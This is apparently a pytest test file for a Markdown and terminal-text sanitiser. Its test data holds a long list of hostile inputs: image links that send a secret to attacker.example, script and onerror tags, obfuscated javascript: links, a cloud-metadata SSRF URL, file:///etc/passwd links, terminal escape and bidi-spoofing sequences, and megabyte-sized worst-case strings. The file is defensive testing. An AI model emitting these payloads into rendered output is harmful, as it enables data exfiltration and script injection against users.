"""terminal_text and inert_markdown: what they keep, what they neutralise, and that the result
really is inert when a Markdown renderer turns it into HTML."""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from docsight.document.sanitize import inert_markdown, terminal_text
from fixtures.inert import assert_inert, render_problems

# --- inert_markdown ------------------------------------------------------------------------------

ATTACKS = [
    pytest.param(
        "![x](http://attacker.example/?q=secret) [1]", "[image: x] [1]", id="image-exfiltration"
    ),
    pytest.param(
        "<img src=http://attacker.example/a.png>",
        r"\<img src=http://attacker.example/a.png>",
        id="img-tag",
    ),
    pytest.param("<script>alert(1)</script>", r"\<script>alert(1)\</script>", id="script"),
    pytest.param("<iframe src='file:///etc/passwd'></iframe>", None, id="iframe"),
    pytest.param("<img src=x onerror=alert(1)>", None, id="img-onerror"),
    pytest.param("<svg><script>alert(2)</script></svg>", None, id="svg-script"),
    pytest.param("<!-- hidden -->", r"\<!-- hidden -->", id="comment"),
    pytest.param("<!DOCTYPE html>", None, id="declaration"),
    pytest.param("<?php echo 1 ?>", None, id="processing-instruction"),
    pytest.param("<![CDATA[x]]>", None, id="cdata"),
    pytest.param("<div\n<img src=x onmouseover=alert(1)", None, id="html-block-without-close"),
    pytest.param("> <img src=x>\n- <script>x</script>", None, id="html-in-containers"),
    pytest.param("[click](javascript:alert(1))", "[click]", id="javascript-link"),
    pytest.param("[click](JAVASCRIPT:alert(1))", "[click]", id="uppercase-scheme"),
    pytest.param("[click](java&#x73;cript:alert(1))", "[click]", id="entity-in-scheme"),
    pytest.param("[click](&#106;avascript&colon;alert(1))", "[click]", id="named-entity-colon"),
    pytest.param("[click](  javascript:alert(1))", "[click]", id="leading-spaces"),
    pytest.param("[click](<java\tscript:alert(1)>)", "[click]", id="tab-in-scheme"),
    pytest.param("[click](java\\script:alert(1))", None, id="backslash-in-scheme"),
    pytest.param("[click](&#x09;javascript:alert(1))", "[click]", id="leading-tab-entity"),
    pytest.param("[click](<javascript:alert(1)>)", "[click]", id="pointy-destination"),
    pytest.param('[click](javascript:alert(1) "title")', "[click]", id="with-title"),
    pytest.param("[click](vbscript:msgbox(1))", "[click]", id="vbscript"),
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x]", id="data-link"),
    pytest.param("[x](file:///etc/passwd)", "[x]", id="file-link"),
    pytest.param("[a](javascript:x)(javascript:y)", "[a]", id="tail-after-dropped-tail"),
    pytest.param("[a] (javascript:alert(1))", r"[a] \(javascript:alert(1))", id="spaced-tail"),
    pytest.param("<javascript:alert(1)>", r"\<javascript:alert(1)>", id="javascript-autolink"),
    pytest.param("![img](http://169.254.169.254/latest/meta-data/)", "[image: img]", id="ssrf"),
    pytest.param("![local](file:///etc/passwd)", "[image: local]", id="file-image"),
    pytest.param("![](http://attacker.example/a.png)", "[image]", id="image-without-alt"),
    pytest.param('![x](http://a.example/x.png "t")', "[image: x]", id="image-with-title"),
    pytest.param(
        "![a ![b](http://x/b.png)](http://x/a.png)", "[image: a b http://x/b.png]", id="nested"
    ),
    pytest.param(
        "![a][ref]\n\n[ref]: http://attacker.example/x.png",
        "[image: a]\n\n[ref]: http://attacker.example/x.png",
        id="reference-image",
    ),
    pytest.param(
        "![a][REF]\n\n> [ref]:\n>   http://attacker.example/x.png",
        None,
        id="reference-image-case-and-container",
    ),
    pytest.param(
        "![ref]\n\n[ref]: http://attacker.example/x.png",
        "\\![ref]\n\n[ref]: http://attacker.example/x.png",
        id="shortcut-reference-image",
    ),
    pytest.param(
        "![ref][]\n\n[ref]: http://attacker.example/x.png", None, id="collapsed-reference-image"
    ),
    pytest.param(
        "[1]: javascript:alert(1)\n\nSee [1].",
        "[1]\\: javascript:alert(1)\n\nSee [1].",
        id="javascript-definition",
    ),
    pytest.param("[x]:\n  <data:text/html,hi>\n\n[x]", None, id="definition-next-line"),
    pytest.param("!![a](http://x/a.png)", "!\\[image: a]", id="bang-before-image"),
    pytest.param("![a](http://x/a.png)(javascript:y)", "[image: a]", id="image-then-tail"),
    pytest.param(
        "![a](http://x/a.png): javascript:y", "[image: a]\\: javascript:y", id="image-then-def"
    ),
    pytest.param("![a](b", "\\![a](b", id="unclosed-image"),
    pytest.param("![a", "\\![a", id="unclosed-alt"),
    pytest.param("<img", r"\<img", id="unclosed-tag"),
    pytest.param("<<script>", r"<\<script>", id="double-angle"),
    pytest.param("`<b>` code", r"`\<b>` code", id="code-span"),
    pytest.param("```\n<img src=x>\n```", None, id="fenced-code"),
    pytest.param("    <img src=x>", None, id="indented-code"),
    pytest.param("[a`\\`](javascript:alert(1))", None, id="backslash-ends-code-span"),
    pytest.param("[z`<http://a`](javascript:alert(1)>)", None, id="autolink-in-code-span"),
    pytest.param("\\\\<img src=x>", r"\\\<img src=x>", id="escaped-backslash"),
    pytest.param("&#60;img src=x&#62; &lt;b&gt;", None, id="entities-stay-text"),
    pytest.param("\x1b[31mred\x9b0m <b>", None, id="controls"),
]

UNCHANGED = [
    pytest.param("Revenue grew 12% in 2024 [1].", id="prose"),
    pytest.param("Net revenue was $4.2M [1], up from $3.9M [2, 3]. See also [4][5].", id="cites"),
    pytest.param("Wow! [1] That is (a lot).", id="exclamation"),
    pytest.param("a < b, x <= 3, 5 > 4, a<5 and 2 < 3 > 1", id="math"),
    pytest.param("| Plan | Price |\n| --- | ---: |\n| Team | $45 [1] |", id="table"),
    pytest.param("Use `pip install docsight` and **bold** _text_.", id="code-and-emphasis"),
    pytest.param(
        "[docs](https://example.com/a_(b)?q=1 'Docs') and [mail](mailto:a@b.example)", id="links"
    ),
    pytest.param("<https://example.com/x> and <MAILTO:team@example.com>", id="autolinks"),
    pytest.param("[guide](guide.md#install) and [top](#top)", id="relative-links"),
    pytest.param("# Title\n\n- item [1]\n- item [2]\n\n> quoted [3]", id="blocks"),
    pytest.param("Note [1]: the figures are audited. [2]: see page 4.", id="colon-after-cite"),
    pytest.param("\\<b> and \\![x](y) are already escaped", id="already-escaped"),
    pytest.param("", id="empty"),
]


@pytest.mark.parametrize(("text", "expected"), ATTACKS)
def test_attacks_are_neutralised(text: str, expected: str | None) -> None:
    result = inert_markdown(text)
    if expected is not None:
        assert result == expected
    assert_inert(result)
    assert inert_markdown(result) == result  # a second pass finds nothing more to do


@pytest.mark.parametrize("text", UNCHANGED)
def test_ordinary_markdown_passes_through_unchanged(text: str) -> None:
    assert inert_markdown(text) == text
    assert_inert(text)


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://attacker.example/?q=secret)",
        "<img src=http://attacker.example/a.png>",
        "<script>alert(1)</script>",
        "<!-- hidden -->",
        "[click](JAVASCRIPT:alert(1))",
        "[click](java&#x73;cript:alert(1))",
        "![a][ref]\n\n[ref]: http://attacker.example/x.png",
        "[1]: javascript:alert(1)\n\nSee [1].",
    ],
)
def test_the_render_check_catches_the_attacks_raw(text: str) -> None:
    """The check is not vacuous: unsanitised, these fail it."""
    assert render_problems(text)


def test_citation_markers_stay_exactly_as_they_are() -> None:
    text = "Revenue rose [1] and costs fell [2, 3]![4] <b>note</b> [5]: [6](see page 2)"
    result = inert_markdown(text)
    assert re.findall(r"\[\d+(?:,\s*\d+)*\]", result) == re.findall(r"\[\d+(?:,\s*\d+)*\]", text)
    assert_inert(result)


def test_random_markdown_soup_is_always_inert() -> None:
    """Seeded fuzzing over the pieces the attacks are made of, in every combination."""
    pieces = [
        *("![", "](", "]:", "[", "]", "(", ")", "[1]", "[a]", "[a]: ", "![a]", "[a][x]"),
        *("<img src=x>", "<a", "<", ">", "<!--", "-->", "<svg", "<http://a>", "<>"),
        *("javascript:", "JaVaScRiPt:", "java", "script", "data:", "file:", ":", "&colon;"),
        *("&#x6a;", "&#58;", "&#x09;", "&Tab;", "&NewLine;", "&lt;", "&amp;"),
        *("`", "``", "```", "~~~", "\\", "\n", "\n\n", "\r", "\t", " ", "    "),
        *("- ", "1. ", "> ", "#", "|", "*", "_", '"', "'", "x", "http://a", "!", "\x00"),
    ]
    rng = random.Random(20240611)
    for _ in range(600):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        result = inert_markdown(text)
        assert_inert(result)
        assert inert_markdown(result) == result, text


_K = 1024


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<a" * 128 * _K, id="tags"),
        pytest.param("![" * 128 * _K, id="image-openers"),
        pytest.param("](" * 128 * _K, id="link-closers"),
        pytest.param("[" * 128 * _K + "]" * 128 * _K, id="deep-brackets"),
        pytest.param("![a](" * 50 * _K, id="unclosed-images"),
        pytest.param("[a](javascript:" * 16 * _K, id="unsafe-links"),
        pytest.param('[a](javascript:x "' + "a" * _K * _K, id="unclosed-title"),
        pytest.param("](" + "&#9;" * 256 * _K, id="entity-padding"),
        pytest.param("<http:a" * 40 * _K, id="autolinks"),
        pytest.param("![[<a](javascript:'\"(\\" * 48 * _K, id="mixed-megabyte"),
    ],
)
def test_hostile_text_takes_linear_time(text: str) -> None:
    """Hundreds of kilobytes of worst cases (one full megabyte). No timing assertion: a quadratic
    path would take hours on these and trip pytest's timeout instead."""
    result = inert_markdown(text)
    assert "![" not in result.replace("\\![", "")
    assert not re.search(r"(?<!\\)<a", result)


def test_shared_hostile_markdown_files(shared_data: Path) -> None:
    folder = shared_data / "badfiles" / "generated" / "text"
    if not folder.is_dir():
        pytest.skip(f"no hostile text files at {folder}")
    for path in sorted(folder.glob("*.md")) + sorted(folder.glob("*.html")):
        text = path.read_bytes().decode("utf-8", "replace")
        result = inert_markdown(text)
        if len(text) < 100_000:  # the renderers themselves are slow on the pathological ones
            assert_inert(result)


# --- terminal_text -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("plain text, ünïcödé, 漢字 and emoji 🙂", None, id="unicode-kept"),
        pytest.param("two\nlines\tand a tab", None, id="newline-and-tab-kept"),
        pytest.param("\x1b[31mred\x1b[0m", "[31mred[0m", id="ansi-sgr"),
        pytest.param("\x9b31mred", "31mred", id="c1-csi"),
        pytest.param(
            "\x1b]8;;http://attacker.example\x07click\x1b]8;;\x07",
            "]8;;http://attacker.exampleclick]8;;",
            id="osc8-hyperlink",
        ),
        pytest.param("\x9d0;title\x9c", "0;title", id="c1-osc"),
        pytest.param("safe\rEVIL", "safeEVIL", id="carriage-return"),
        pytest.param("abc\x08\x08\x08xyz\x7f", "abcxyz", id="backspace-and-del"),
        pytest.param("\x00nul\x0bvt\x0cff", "nulvtff", id="other-c0"),
        pytest.param("invoice\u202efdp.exe", "invoicefdp.exe", id="bidi-override"),
        pytest.param(
            "\u2066isolated\u2069 \u202aembedded\u202c", "isolated embedded", id="isolates"
        ),
        pytest.param("zero\u200bwidth \u200e mark \u00a0 nbsp", None, id="other-format-kept"),
    ],
)
def test_terminal_text(text: str, expected: str | None) -> None:
    result = terminal_text(text)
    assert result == (text if expected is None else expected)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", result)
    assert terminal_text(result) == result


# --- where the functions are used ----------------------------------------------------------------


def test_evaluation_report_is_inert_markdown() -> None:
    from docsight.evaluation.report import run_report

    hostile = "![x](http://attacker.example/?q=1) <img src=x> [a](javascript:alert(1))"
    summary = {
        "kind": "qa",
        "dataset": f"set {hostile}",
        "questions": 2,
        "scope": "document",
        "k": 5,
        "documents": 1,
        "collection": "/tmp/col",
        "seconds": 1.0,
        "seconds_per_question": 0.5,
        "judge": "<script>alert(1)</script>",
        "documents_missing": [f"doc\n{hostile}.pdf"],
        "notes": [f"note {hostile}"],
        "recall@5": 0.5,
    }
    groups = {"by_domain": {f"finance | {hostile}": {"questions": 2, "recall@5": 0.5}}}
    report = run_report(summary, groups)
    assert_inert(report)
    assert "attacker.example" not in report.replace("[image: x]", "")
    row = next(line for line in report.splitlines() if line.startswith("| finance"))
    # The "|" in the domain name is escaped: the row keeps its three cells.
    assert len(re.split(r"(?<!\\)\|", row)) == len(re.split(r"(?<!\\)\|", "| a | b | c |"))
